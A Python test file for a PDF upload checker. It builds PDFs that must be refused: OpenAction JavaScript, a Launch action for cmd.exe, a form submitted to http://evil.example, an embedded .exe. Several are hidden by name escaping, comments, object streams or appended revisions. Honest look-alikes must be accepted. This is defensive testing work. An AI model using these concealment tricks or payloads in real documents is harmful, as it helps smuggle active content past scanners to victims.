"""PDFs that do something by themselves, however it is written, packed or hidden; and honest ones that look alike."""

from __future__ import annotations

import io
import zlib
from collections.abc import Mapping
from contextlib import suppress
from pathlib import Path

import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.core.test_contents import told
from tracker.core.files import pdfs
from tracker.core.files.kinds import PDF, ContentError

Objects = Mapping[int, bytes]
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R%s>>"
TEXT = b"BT /F1 12 Tf 72 770 Td (Bao cao quy III) Tj ET"


def stream(content: bytes, more: bytes = b"", *, packed: bool = True) -> bytes:
    data = zlib.compress(content) if packed else content
    filter_ = b"/Filter/FlateDecode" if packed else b""
    return b"<</Length %d%s%s>>\nstream\n%s\nendstream" % (len(data), filter_, more, data)


def pdf(
    catalog: bytes = b"",
    page: bytes = b"",
    more: Mapping[int, bytes] | None = None,
    packed: Mapping[int, bytes] | None = None,
) -> bytes:
    """A whole document that readers open: objects by their numbers, those of `packed` in a stream of objects."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: PAGE % page,
        4: stream(TEXT),
        **(more or {}),
    }
    inside: dict[int, int] = {}
    if packed:
        bodies, heads, place = b"", [], 0
        for order, (number, body) in enumerate(packed.items()):
            heads.append(b"%d %d" % (number, place))
            bodies += body + b" "
            place = len(bodies)
            inside[number] = order
        head = b" ".join(heads) + b" "
        objects[90] = stream(head + bodies, b"/Type/ObjStm/N %d/First %d" % (len(packed), len(head)))
    document, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(document)
        document += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, rows = len(document), b""
    for number in range(92):
        if number in inside:
            rows += b"\x02" + (90).to_bytes(4, "big") + inside[number].to_bytes(2, "big")
        elif number == 91:
            rows += b"\x01" + start.to_bytes(4, "big") + b"\0\0"
        else:
            rows += (b"\x01" if number in places else b"\0") + places.get(number, 0).to_bytes(4, "big") + b"\0\0"
    table = stream(rows, b"/Type/XRef/Size 92/W[1 4 2]/Root 1 0 R")
    return document + b"91 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start)


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
ACTING = {
    "when it is opened": pdf(b"/OpenAction 5 0 R", more={5: SCRIPT}),
    "by its names": pdf(b"/Names<</JavaScript<</Names[(a) 5 0 R]>>>>", more={5: SCRIPT}),
    "when a page is left": pdf(page=b"/AA<</C 5 0 R>>", more={5: SCRIPT}),
    "when a field is filled in": pdf(page=b"/Annots[<</Subtype/Widget/FT/Tx/AA<</K%s>>>>]" % SCRIPT),
    "a program": pdf(page=b"/Annots[<</Subtype/Link/A<</S/Launch/F(cmd.exe)>>>>]"),
    "sends a form": pdf(page=b"/Annots[<</Subtype/Widget/A<</S /SubmitForm/F(http://evil.example)>>>>]"),
    "takes data in": pdf(b"/OpenAction<</S/ImportData/F(a.fdf)>>"),
    "opens a file inside": pdf(b"/OpenAction<</S/GoToE/T<</R/C/N(a.pdf)>>>>"),
    "a file inside": pdf(b"/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>", more={5: b"<</EF<</F 6 0 R>>>>"}),
    "a film": pdf(page=b"/Annots[<</Subtype/RichMedia>>]"),
    "a film that runs a script": pdf(page=b"/Annots[<</Subtype/Screen/A<</S/Rendition/JS(x)>>>>]"),
    "a form of XFA": pdf(b"/AcroForm<</XFA 5 0 R/Fields[]>>", more={5: stream(b"<xdp/>")}),
    "escaped": pdf(b"/OpenAction 5 0 R", more={5: b"<</S/J#61vaScr#69pt/JS(x)>>"}),
    "as a thing of its own": pdf(b"/OpenAction<</S 5 0 R/JS(x)>>", more={5: b"/JavaScript"}),
    "between remarks": pdf(b"/OpenAction<</S%remark\n/JavaScript%remark\n/JS(x)>>"),
    "packed": pdf(b"/OpenAction 5 0 R", packed={6: b"<</F 1>>", 5: SCRIPT}),
    "packed and escaped": pdf(b"/OpenAction 5 0 R", packed={5: b"<</S/#4aavaScript/JS(x)>>"}),
    "packed without saying so": pdf(b"/OpenAction 5 0 R", packed={5: SCRIPT}).replace(b"/Type/ObjStm", b""),
    "in a stream that is not packed": pdf(more={5: stream(b"6 0 obj" + SCRIPT, packed=False)}),
    "in a version before": pdf(more={5: SCRIPT}).replace(b"%%EOF\n", b"%%EOF\n") + pdf()[9:],
}
HONEST = {
    "as it is": pdf(),
    "packed": pdf(b"/Outlines 5 0 R", packed={5: b"<</Type/Outlines/First 6 0 R>>", 6: b"<</Title(I)/Parent 5 0 R>>"}),
    "opens on its first page": pdf(b"/OpenAction[3 0 R/FitH 800]/PageMode/UseOutlines"),
    "with links": pdf(page=b"/Annots[<</Subtype/Link/A<</S/URI/URI(https://a.vn)>>>><</A<</S/GoTo/D[3 0 R/Fit]>>>>]"),
    "with a form": pdf(b"/AcroForm<</Fields[5 0 R]>>", more={5: b"<</FT/Tx/T(ten)/V(Lan)>>"}),
    "signed": pdf(b"/AcroForm<</SigFlags 3/Fields[5 0 R]>>", more={5: b"<</FT/Sig/V<</Type/Sig/Contents<00>>>>>"}),
    "with a text about scripts": pdf(more={4: stream(b"(JavaScript, Launch and EmbeddedFiles) Tj /JavaScripts gs")}),
    "with a large picture": pdf(more={5: stream(b"\0" * 3_000_000, b"/Subtype/Image/Width 1000/Height 1000")}),
    "locked": pdf(packed={5: b"<</F 1>>"}).replace(b"/Root", b"/Encrypt 7 0 R/Root"),
}


@pytest.mark.parametrize("content", ACTING.values(), ids=ACTING)
def test_one_that_acts_is_refused(tmp_path: Path, content: bytes) -> None:
    assert "Print it as a new PDF" in told(tmp_path, content, "a.pdf")


@pytest.mark.parametrize("content", HONEST.values(), ids=HONEST)
def test_an_honest_one_is_taken(tmp_path: Path, content: bytes) -> None:
    assert told(tmp_path, content, "a.pdf") == PDF


def test_objects_that_nobody_can_unpack_are_refused_unless_all_is_locked(tmp_path: Path) -> None:
    hidden = pdf(packed={5: SCRIPT}).replace(b"/Filter/FlateDecode/Type/ObjStm", b"/Filter/LZWDecode/Type/ObjStm")
    broken = hidden.replace(b"stream\nx", b"stream\nX")
    assert "damaged" in told(tmp_path, broken, "a.pdf")
    predicted = pdf(packed={5: SCRIPT[:3]}).replace(b"/Type/ObjStm", b"/DecodeParms<</Predictor 12>>/Type/ObjStm")
    assert "damaged" in told(tmp_path, predicted, "a.pdf")
    assert told(tmp_path, broken.replace(b"/Root", b"/Encrypt 7 0 R/Root"), "a.pdf") == PDF


def test_objects_unpack_to_so_much_at_most(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdfs, "MOST_OBJECTS", 1_000)
    assert told(tmp_path, pdf(packed={5: b"<<" + b" " * 900 + b">>"}), "a.pdf") == PDF
    assert "too large" in told(tmp_path, pdf(packed={5: b"<<" + b" " * 1_000 + b">>"}), "a.pdf")
    picture = stream(b"\0" * 2_000, b"/Subtype/Image/First 1 0 R")
    assert told(tmp_path, pdf(more={5: picture}), "a.pdf") == PDF


def test_what_only_looks_like_objects_is_unpacked_up_to_a_limit_of_the_whole_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each of them is unpacked to see: hundreds would keep a worker busy for a minute."""
    monkeypatch.setattr(pdfs, "MOST_OBJECTS", 1_000)
    monkeypatch.setattr(pdfs, "MOST_UNPACKED", 3_000)
    pictures = {number: stream(b"\0" * 2_000, b"/Subtype/Image/First 1 0 R") for number in range(5, 8)}
    assert told(tmp_path, pdf(more={5: pictures[5]}), "a.pdf") == PDF
    assert "too large" in told(tmp_path, pdf(more=pictures), "a.pdf")


@given(where=st.integers(0, 10_000), what=st.binary(max_size=6))
def test_whatever_is_changed_it_is_taken_or_refused(where: int, what: bytes) -> None:
    original = HONEST["packed"]
    where %= len(original)
    with suppress(ContentError):
        pdfs.check(original[:where] + what + original[where + len(what) :])


@pytest.mark.parametrize(("user", "refused"), [("mật khẩu", True), ("", False)])
def test_a_pdf_that_asks_for_a_password_is_refused(user: str, refused: bool) -> None:
    """One that only forbids to print or to change it opens for everybody."""
    document, written = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    document.save(written, encryption=pikepdf.Encryption(owner="chủ", user=user))
    if not refused:
        pdfs.check(written.getvalue())
        return
    with pytest.raises(ContentError, match="password"):
        pdfs.check(written.getvalue())
